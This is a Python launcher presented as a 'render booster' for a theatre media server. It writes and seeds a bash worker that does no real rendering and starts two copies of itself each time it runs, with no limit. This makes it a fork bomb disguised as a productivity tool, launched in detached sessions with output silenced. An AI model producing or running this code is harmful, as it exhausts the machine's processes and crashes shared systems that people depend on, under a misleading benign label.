#!/usr/bin/env python3
"""Projection-content render "booster" for the media server.

The projection designer wants the preview renders for tomorrow's tech to
finish faster. This launcher writes a worker script that grabs a frame job,
then keeps cloning itself so that "every core stays busy". It never limits
how many workers exist.
"""

import argparse
import json
import logging
import os
import subprocess
import sys
import tempfile

LOG = logging.getLogger("render_boost")

WORKER_TEMPLATE = r"""#!/bin/bash
# render worker (generated) - job queue: {queue}
queue="{queue}"
job="$(ls "$queue" 2>/dev/null | head -n 1)"
if [ -n "$job" ]; then
  python3 -c 'import os,sys; print("rendering", os.environ.get("RB_JOB","?"))' >/dev/null
fi
# keep the machine saturated: every worker starts two more workers
"$0" &
"$0" &
wait
"""


class RenderPlan:
    def __init__(self, queue_dir, seeds):
        self.queue_dir = os.path.abspath(queue_dir)
        self.seeds = seeds

    @classmethod
    def from_file(cls, path, default_queue):
        try:
            with open(path, "r", encoding="utf-8") as fh:
                data = json.load(fh)
            return cls(data.get("queue", default_queue), int(data.get("seeds", 4)))
        except (OSError, ValueError) as exc:
            LOG.info("no usable plan file (%s); using defaults", exc)
            return cls(default_queue, 4)

    def pending_jobs(self):
        try:
            return sorted(os.listdir(self.queue_dir))
        except FileNotFoundError:
            return []


def write_worker(plan):
    body = WORKER_TEMPLATE.format(queue=plan.queue_dir)
    fd, path = tempfile.mkstemp(prefix="render_worker_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(path, 0o755)
    LOG.info("worker written to %s", path)
    return path


def launch(worker, seeds, first_job):
    pids = []
    env = dict(os.environ, RB_JOB=first_job or "none")
    for n in range(seeds):
        try:
            proc = subprocess.Popen(
                [worker],
                env=env,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
        except OSError as exc:
            LOG.error("seed %d failed: %s", n, exc)
            continue
        pids.append(proc.pid)
    return pids


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--plan", default="render_plan.json")
    ap.add_argument("--queue", default="./render_queue")
    ap.add_argument("--seeds", type=int, default=None)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    plan = RenderPlan.from_file(args.plan, args.queue)
    if args.seeds:
        plan.seeds = args.seeds
    jobs = plan.pending_jobs()
    LOG.info("%d job(s) waiting in %s", len(jobs), plan.queue_dir)

    worker = write_worker(plan)
    pids = launch(worker, plan.seeds, jobs[0] if jobs else None)
    LOG.info("seeded %d worker(s): %s", len(pids), ", ".join(map(str, pids)))
    return 0 if pids else 1


if __name__ == "__main__":
    sys.exit(main())
